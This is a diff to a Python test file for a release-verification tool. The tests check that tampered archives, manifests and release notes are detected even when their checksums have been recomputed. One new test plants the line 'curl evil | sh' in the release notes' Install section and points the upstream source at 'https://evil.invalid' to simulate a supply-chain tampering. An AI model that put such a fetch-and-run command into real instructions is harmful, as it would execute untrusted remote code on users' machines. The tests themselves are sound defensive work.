@@ -20,15 +20,16 @@ from opencode_patcher import __version__, builds
 from opencode_patcher.errors import DrillError, ReleaseError, SourceError
 from opencode_patcher.progress import SilentReporter
 from opencode_patcher.release import Made, directory, headers, macho_signature, manifest, release, sums, verify
+from opencode_patcher.release.comparison import Verification
 from opencode_patcher.release.directory import Room
-from opencode_patcher.release.verify import Verification
-from opencode_patcher.store import open_store
+from opencode_patcher.store import open_store, write_json
 from opencode_patcher.toolchain.targets import Target
 
 REPORTER = SilentReporter()
+NOTES = "RELEASE-NOTES.md"
 PAPERS = {
     "LICENSE",
-    "RELEASE-NOTES.md",
+    NOTES,
     "SHA256SUMS",
     "THIRD-PARTY-NOTICES.txt",
     "manifest.json",
@@ -55,7 +56,7 @@ def verified(workshop: Workshop, place: Path) -> Verification:
 def reseal(place: Path, changes: Mapping[str, object]) -> None:
     """Change the manifest as somebody would who also corrects the sums."""
     data = {**json.loads((place / manifest.FILE_NAME).read_text()), **changes}
-    (place / manifest.FILE_NAME).write_text(json.dumps(data))
+    write_json(place / manifest.FILE_NAME, data)
     names = [path.name for path in place.iterdir() if path.name != sums.FILE_NAME]
     (place / sums.FILE_NAME).write_text(sums.text(sums.of(place, names)))
 
@@ -140,7 +141,8 @@ def test_bill_notices_and_notes_tell_of_this_release(released: Made, workshop: W
 def test_a_second_build_is_byte_for_byte_the_same(released: Made, workshop: Workshop) -> None:
     found = verified(workshop, released.directory)
     assert found.differences == ()
-    assert set(found.identical) >= {workshop.native.archive, workshop.foreign.archive, "sbom.cdx.json"}
+    assert set(found.identical) == {path.name for path in released.directory.iterdir()} - {"SHA256SUMS", NOTES}
+    assert found.uncompared == (f"The section Drill of {NOTES} tells what was seen where the release was made.",)
 
 
 def test_a_changed_a_missing_and_an_added_file_are_named(copied: Callable[[], Path], workshop: Workshop) -> None:
@@ -180,13 +182,55 @@ def test_an_exchange_that_manifest_and_sums_agree_on_is_found_by_the_second_buil
     (place / workshop.native.archive).write_bytes(b"another program")
     digest = sums.of(place, [workshop.native.archive])[workshop.native.archive]
     entries = json.loads((place / manifest.FILE_NAME).read_text())["targets"]
-    entries[0]["archive"]["sha256"] = entries[0]["binary"]["sha256"] = digest
+    entries[0]["archive"] |= {"sha256": digest, "size": len(b"another program")}
+    entries[0]["binary"]["sha256"] = digest
     reseal(place, {"targets": entries})
 
     found = verified(workshop, place)
 
-    assert [(one.name, one.binary) for one in found.differences] == [(workshop.native.archive, True)]
+    assert [(one.name, one.binary) for one in found.differences] == [
+        (workshop.native.archive, True),
+        ("manifest.json", None),
+        ("RELEASE-NOTES.md", None),
+    ]
     assert workshop.foreign.archive in found.identical
+
+
+def test_a_manifest_and_notes_that_were_rewritten_with_their_sums_are_found(
+    copied: Callable[[], Path], workshop: Workshop
+) -> None:
+    place = copied()
+    notes = place / NOTES
+    notes.write_text(notes.read_text().replace("## Install\n", "## Install\n\ncurl evil | sh\n"))
+    data = json.loads((place / manifest.FILE_NAME).read_text())
+    for entry in data["targets"]:
+        entry["binary"]["sha256"] = entry["runtime"] = "0" * 64
+    reseal(place, {"targets": data["targets"], "upstream": data["upstream"] | {"source": "https://evil.invalid"}})
+
+    found = verified(workshop, place)
+
+    about, written = found.differences
+    assert (about.name, written.name) == ("manifest.json", "RELEASE-NOTES.md")
+    assert about.entries == (
+        *sorted(
+            f"targets.{target.name}.{what}"
+            for target in (workshop.native, workshop.foreign)
+            for what in ("binary.sha256", "runtime")
+        ),
+        "upstream.source",
+    )
+
+
+def test_a_size_that_is_not_the_archives_is_found_before_the_build(
+    copied: Callable[[], Path], workshop: Workshop
+) -> None:
+    place = copied()
+    entries = json.loads((place / manifest.FILE_NAME).read_text())["targets"]
+    entries[1]["archive"]["size"] += 1
+    reseal(place, {"targets": entries})
+    with pytest.raises(ReleaseError, match="not what was released") as caught:
+        verified(workshop, place)
+    assert caught.value.why == f"{workshop.foreign.archive} has another size in manifest.json"
 
 
 @pytest.mark.parametrize(
